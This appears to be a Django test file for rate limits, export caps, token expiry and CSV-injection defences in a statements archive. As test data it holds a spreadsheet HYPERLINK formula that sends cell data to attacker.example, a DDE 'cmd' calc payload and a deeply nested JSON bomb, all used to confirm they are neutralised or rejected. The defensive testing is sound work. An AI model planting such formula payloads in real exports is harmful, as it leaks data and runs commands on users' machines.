"""Bounded work and guessing per client, in process: exports, CSV formulas, sign-in limits, tokens, deep JSON.

(In other processes: test_production.py.)
"""

import csv
import datetime as dt
import io
import json

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import Client
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from statements.models import Statement
from statements.services.exchange import spreadsheet_safe
from tests.factories import make_editor, make_statement

pytestmark = [pytest.mark.slow, pytest.mark.django_db]

FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'
FORMULA_BODY = "-2+3+cmd|' /C calc'!A0 and then the statement goes on."
PASSWORD = "correct horse battery staple 7"


@pytest.fixture(autouse=True)
def _fast_passwords(settings):
    # The limits are tested, password hashing is not.
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def statements(db):
    made = [make_statement(title=f"Заявление {n}", body=f"Россия и Япония провели консультации номер {n}.")
            for n in range(4)]
    return [m.statement for m in made]


@pytest.fixture
def editor(db):
    return make_editor(password=PASSWORD)


def token_client(user) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    return client


def streamed(response) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode()


# Exports: bounded for anonymous clients, more for editors, throttled, and the limit said in the headers.

@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_an_anonymous_export_stops_at_its_limit_and_says_so(statements, settings, fmt):
    settings.EXPORT_ANON_ROWS = 2
    response = APIClient().get(f"/api/export/statements.{fmt}")
    assert response.status_code == 200
    lines = streamed(response).splitlines()
    assert len(lines) == 2 + (fmt == "csv")  # the CSV's header
    assert response["X-Export-Limit"] == "2"
    assert response["X-Export-Truncated"] == "true"
    notice = response["X-Export-Notice"]
    assert "first 2 statements" in notice and "manage.py export" in notice and "sign in as an editor" in notice


def test_the_first_statements_by_id_and_no_notice_when_all_fit(statements, settings):
    settings.EXPORT_ANON_ROWS = 4
    response = APIClient().get("/api/export/statements.jsonl")
    keys = [json.loads(line)["key"] for line in streamed(response).splitlines()]
    assert keys == [s.key for s in sorted(statements, key=lambda s: s.pk)]
    assert response["X-Export-Truncated"] == "false"
    assert "X-Export-Notice" not in response


def test_a_filtered_selection_counts_against_the_limit_not_the_archive(statements, settings):
    settings.EXPORT_ANON_ROWS = 1
    response = APIClient().get("/api/export/statements.jsonl", {"q": "консультации номер 3"})
    assert [json.loads(line)["key"] for line in streamed(response).splitlines()] == [statements[3].key]
    assert response["X-Export-Truncated"] == "false"


def test_editors_export_more(statements, editor, settings):
    settings.EXPORT_ANON_ROWS = 1
    settings.EXPORT_EDITOR_ROWS = 3
    response = token_client(editor).get("/api/export/statements.jsonl")
    assert len(streamed(response).splitlines()) == 3
    assert response["X-Export-Limit"] == "3"
    assert response["X-Export-Truncated"] == "true"
    assert "sign in" not in response["X-Export-Notice"] and "manage.py export" in response["X-Export-Notice"]


def test_anonymous_exports_are_throttled_apart_from_the_api(statements, editor, settings):
    settings.EXPORT_ANON_RATE = "2/minute"
    anonymous = APIClient()
    statuses = [anonymous.get("/api/export/statements.csv").status_code for _ in range(3)]
    assert statuses == [200, 200, 429]
    refused = anonymous.get("/api/export/statements.jsonl")
    assert refused.status_code == 429 and int(refused["Retry-After"]) > 0
    assert anonymous.get("/api/statements/").status_code == 200  # reading goes on
    # Another address has its own budget; an editor none.
    assert anonymous.get("/api/export/statements.csv", REMOTE_ADDR="192.0.2.9").status_code == 200
    editor_client = token_client(editor)
    assert {editor_client.get("/api/export/statements.csv").status_code for _ in range(3)} == {200}


# CSV cells a spreadsheet would run as formulas.

@pytest.mark.parametrize("cell, safe", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("Москва", "Москва"), ("a=b", "a=b"), ("", ""), (42, 42), ("'quoted", "'quoted"),
])
def test_a_formula_cell_begins_with_an_apostrophe(cell, safe):
    assert spreadsheet_safe(cell) == safe


def test_formulas_in_titles_and_bodies_are_neutralised_in_the_csv_and_kept_in_json_lines(db, tmp_path):
    hostile = make_statement(title=FORMULA_TITLE, body=FORMULA_BODY, place="@Москва").statement
    make_statement(title="Обычное заявление", body="Стороны провели консультации.")
    response = APIClient().get("/api/export/statements.csv")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(streamed(response)))}
    assert set(rows) == {str(s.pk) for s in Statement.objects.all()}
    row = rows[str(hostile.pk)]
    assert row["title"] == "'" + FORMULA_TITLE
    assert row["body"] == "'" + FORMULA_BODY
    assert row["place"] == "'@Москва"
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows.values() for value in r.values())
    ordinary = next(r for key, r in rows.items() if key != str(hostile.pk))
    assert (ordinary["title"], ordinary["body"]) == ("Обычное заявление", "Стороны провели консультации.")

    # JSON Lines keep the texts as stored, and an import gives them back unchanged.
    export = tmp_path / "archive.jsonl"
    call_command("export", "--output", str(export))
    assert streamed(APIClient().get("/api/export/statements.jsonl")) == export.read_text(encoding="utf-8")
    before = sorted(Statement.objects.values_list("key", "title", "body", "place"))
    Statement.objects.all().delete()
    call_command("import", str(export))
    assert sorted(Statement.objects.values_list("key", "title", "body", "place")) == before
    assert (FORMULA_TITLE, FORMULA_BODY) in {(title, body) for _, title, body, _ in before}


# Sign-in attempts: ten a minute per client address, the admin and the token endpoint together.

def admin_login(client: Client, password: str, **headers):
    return client.post("/admin/login/?next=/admin/", {"username": "editor", "password": password}, **headers)


def test_the_eleventh_admin_login_in_a_minute_is_refused_whatever_x_forwarded_for_says(editor):
    client = Client()
    answers = [admin_login(client, f"guess-{n}", HTTP_X_FORWARDED_FOR=f"198.51.100.{n}") for n in range(10)]
    assert [a.status_code for a in answers] == [200] * 10  # the form again, with its error
    refused = admin_login(client, "guess-10", HTTP_X_FORWARDED_FOR="198.51.100.200")
    assert refused.status_code == 429
    assert 0 < int(refused["Retry-After"]) <= 60
    assert "Too many sign-in attempts" in refused.text or "Слишком много попыток" in refused.text
    # Even the right password waits now, at the admin and at the token endpoint alike.
    assert admin_login(client, PASSWORD).status_code == 429
    token = APIClient().post("/api/token/", {"username": "editor", "password": PASSWORD})
    assert token.status_code == 429 and "Retry-After" in token
    # Another client is not held back.
    assert admin_login(Client(REMOTE_ADDR="192.0.2.50"), PASSWORD).status_code == 302


def test_the_token_endpoint_counts_with_the_admin(editor):
    client = APIClient()
    for n in range(5):
        client.post("/api/token/", {"username": "editor", "password": f"guess-{n}"}, HTTP_X_FORWARDED_FOR=f"10.0.0.{n}")
    for n in range(5):
        assert admin_login(Client(), f"again-{n}").status_code == 200
    assert admin_login(Client(), PASSWORD).status_code == 429


def test_reading_the_login_page_is_not_an_attempt(editor):
    client = Client()
    assert {client.get("/admin/login/").status_code for _ in range(12)} == {200}
    assert admin_login(client, PASSWORD).status_code == 302


def behind_a_proxy(settings):
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "NUM_PROXIES": 1}


def test_behind_a_proxy_the_address_it_appended_counts_not_what_the_client_wrote(editor, settings):
    behind_a_proxy(settings)
    client = APIClient()
    for n in range(10):
        # The client wrote the first address; the proxy appended the second.
        assert client.post("/api/token/", {"username": "editor", "password": "wrong"},
                           HTTP_X_FORWARDED_FOR=f"198.51.100.{n}, 203.0.113.7").status_code == 400
    assert client.post("/api/token/", {"username": "editor", "password": PASSWORD},
                       HTTP_X_FORWARDED_FOR="198.51.100.99, 203.0.113.7").status_code == 429
    # Another client behind the same proxy.
    assert client.post("/api/token/", {"username": "editor", "password": PASSWORD},
                       HTTP_X_FORWARDED_FOR="203.0.113.8").status_code == 200


def test_the_anonymous_api_limit_is_not_reset_by_x_forwarded_for(db, settings):
    from rest_framework.throttling import AnonRateThrottle

    original = AnonRateThrottle.THROTTLE_RATES
    AnonRateThrottle.THROTTLE_RATES = {**original, "anon": "3/minute"}
    try:
        client = APIClient()
        statuses = [client.get("/api/countries/", HTTP_X_FORWARDED_FOR=f"198.51.100.{n}").status_code
                    for n in range(4)]
    finally:
        AnonRateThrottle.THROTTLE_RATES = original
    assert statuses == [200, 200, 200, 429]


# Tokens: they expire, and die with a password change.

def test_a_token_is_issued_with_its_expiry(editor, settings):
    settings.API_TOKEN_DAYS = 7
    answer = APIClient().post("/api/token/", {"username": "editor", "password": PASSWORD}).json()
    token = Token.objects.get(user=editor)
    assert answer["token"] == token.key
    expires = dt.datetime.fromisoformat(answer["expires"].replace("Z", "+00:00"))
    assert abs(expires - (token.created + dt.timedelta(days=7))) < dt.timedelta(seconds=1)


def test_an_expired_token_is_refused_and_a_new_one_issued(statements, editor, settings):
    settings.API_TOKEN_DAYS = 30
    client = token_client(editor)
    assert client.get("/api/statements/").status_code == 200
    Token.objects.filter(user=editor).update(created=dt.datetime.now(dt.UTC) - dt.timedelta(days=30, seconds=1))
    refused = client.get("/api/statements/")
    assert refused.status_code == 401
    assert refused.json()["detail"] == "Срок действия токена истёк: получите новый через /api/token/."
    assert not Token.objects.filter(user=editor).exists()
    fresh = APIClient().post("/api/token/", {"username": "editor", "password": PASSWORD}).json()["token"]
    client.credentials(HTTP_AUTHORIZATION=f"Token {fresh}")
    assert client.get("/api/statements/").status_code == 200


def test_the_token_endpoint_replaces_an_expired_token(editor, settings):
    old = Token.objects.create(user=editor)
    Token.objects.filter(pk=old.pk).update(created=dt.datetime.now(dt.UTC) - dt.timedelta(days=400))
    fresh = APIClient().post("/api/token/", {"username": "editor", "password": PASSWORD}).json()["token"]
    assert fresh != old.key


def test_a_password_change_ends_every_token(statements, editor):
    client = token_client(editor)
    assert client.get("/api/statements/").status_code == 200
    # Signing in elsewhere saves the user (last_login) but changes no password: the token lives on.
    assert Client().post("/admin/login/?next=/admin/", {"username": "editor", "password": PASSWORD}).status_code == 302
    assert client.get("/api/statements/").status_code == 200
    editor.set_password("a brand new password 8")
    editor.save()
    assert not Token.objects.filter(user=editor).exists()
    assert client.get("/api/statements/").status_code == 401


def test_changepassword_through_the_admin_form_ends_every_token(editor):
    superuser = User.objects.create_superuser("root", password=PASSWORD)
    Token.objects.create(user=editor)
    admin = Client()
    admin.force_login(superuser)
    new = "another brand new password 9"
    response = admin.post(f"/admin/auth/user/{editor.pk}/password/", {"password1": new, "password2": new,
                                                                      "usable_password": "true"})
    assert response.status_code == 302, response.content[:2000]
    assert not Token.objects.filter(user=editor).exists()


# JSON nested past the recursion limit.

DEEP = "[" * 100_000


@pytest.mark.parametrize("path", ["/api/token/", "/api/agreements/", "/api/events/"])
def test_json_nested_100000_deep_is_a_400(statements, editor, path):
    response = token_client(editor).post(path, DEEP, content_type="application/json")
    assert response.status_code == 400
    assert "JSON parse error" in response.json()["detail"]



def test_a_request_without_an_address_is_limited_too(editor):
    """A WSGI caller that gives no REMOTE_ADDR: one budget for all such callers, never a 500."""
    client = APIClient(REMOTE_ADDR=None)
    statuses = [client.post("/api/token/", {"username": "editor", "password": f"guess-{n}"}).status_code
                for n in range(11)]
    assert statuses == [400] * 10 + [429]
